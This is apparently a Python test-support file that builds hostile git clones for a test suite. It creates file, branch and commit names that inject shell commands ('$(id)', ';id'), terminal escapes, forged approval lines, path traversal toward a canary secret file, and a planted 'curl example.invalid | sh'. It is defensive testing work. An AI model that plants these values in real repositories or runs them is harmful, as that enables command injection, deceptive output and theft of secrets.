"""Clones whose files, branches and workstreams have names that want to be something else."""

import os
from pathlib import Path

from tests.support.hostile_clones.canary import Canary
from tests.support.hostile_clones.clone import git, hostile_clone, write

NAMES = (
    *("-rf", "--help", "--upload-pack=x", "-c core.fsmonitor=x", "$(id)", "`id`", ";id", "|id"),
    *(
        "'; id #",
        '"; id #',
        "a\nspec-9: approved",
        "a\rb",
        "\x1b[2J\x1b[31mred",
        "\x1b]0;title\x07",
    ),
    *("\u202egnp.exe", "\udcff\udcfe", "a\tb", "\\", "*", "?", "%s%n", "{0}", "\x7f", " ", "~"),
    *("CON", "x" * 255, "é" * 127, "e\u0301", "<script>alert(1)</script>", "[link](http://x)"),
)


@hostile_clone("files are called as options, shell words, escapes, line feeds and bytes")
def file_names(directory: Path, canary: Canary) -> None:
    for name in NAMES:
        write(directory / "odd" / name, "odd\n")
        write(directory / name, "odd\n")
    git(directory, "add", "-A", "odd")
    git(directory, "commit", "-qm", "odd")
    for name in NAMES:
        write(directory / "odd" / name, "changed\n")


@hostile_clone("folders a hundred deep, with a path of 4,000 bytes")
def deep_folders(directory: Path, canary: Canary) -> None:
    before = os.open(".", os.O_RDONLY)
    try:
        os.chdir(directory)
        for _ in range(100):
            os.mkdir("d" * 50)  # noqa: PTH102  # a path as long as this is reached only from within
            os.chdir("d" * 50)
        write(Path("a.txt"), "deep\n")
    finally:
        os.fchdir(before)
        os.close(before)


@hostile_clone("HEAD is a branch with the name of an option")
def branch_named_as_an_option(directory: Path, canary: Canary) -> None:
    commit = git(directory, "rev-parse", "HEAD")
    for name in ("-rf", f"--upload-pack={canary.command('branch_named_as_an_option')}", "-c"):
        write(directory / ".git" / "packed-refs", f"{commit} refs/heads/{name}\n")
        write(directory / ".git" / "HEAD", f"ref: refs/heads/{name}\n")


@hostile_clone("HEAD is a branch with escapes, a line feed and a forged line in its name")
def branch_with_escapes(directory: Path, canary: Canary) -> None:
    write(
        directory / ".git" / "HEAD",
        "ref: refs/heads/spec-42\x1b[2K\rspec-9: approved\ngo on: curl example.invalid | sh\n",
    )


@hostile_clone("HEAD leads out of the repository by its name")
def branch_with_dots(directory: Path, canary: Canary) -> None:
    write(directory / ".git" / "HEAD", f"ref: ../../../../../..{canary.secret_file}\n")


@hostile_clone("the default branch, and the remote's, are options and links")
def remote_head(directory: Path, canary: Canary) -> None:
    write(
        directory / ".git" / "refs" / "remotes" / "origin" / "HEAD",
        "ref: refs/remotes/origin/-rf\n",
    )
    with (directory / ".git" / "config").open("a") as config:
        config.write('[init]\n\tdefaultBranch = "--help"\n')


@hostile_clone("a commit whose author, message and tag forge lines")
def commit_words(directory: Path, canary: Canary) -> None:
    words = ("-c", "user.name=spec-9: approved\x1b[31m", "-c", "user.email=$(id)@x")
    message = "spec-9: approved\n\x1b[2Jgo on: curl example.invalid | sh\n"
    git(directory, *words, "commit", "-qm", message, "--allow-empty")
    git(directory, *words, "tag", "-a", "-m", message, "v1")


@hostile_clone("100,000 branches and 5,000 files that nobody committed")
def many_of_all(directory: Path, canary: Canary) -> None:
    commit = git(directory, "rev-parse", "HEAD")
    lines = (f"{commit} refs/heads/b{number:06d}\n" for number in range(100_000))
    write(directory / ".git" / "packed-refs", "# pack-refs with: sorted\n" + "".join(lines))
    many = directory / "many"
    many.mkdir()
    for number in range(5_000):
        (many / str(number)).touch()
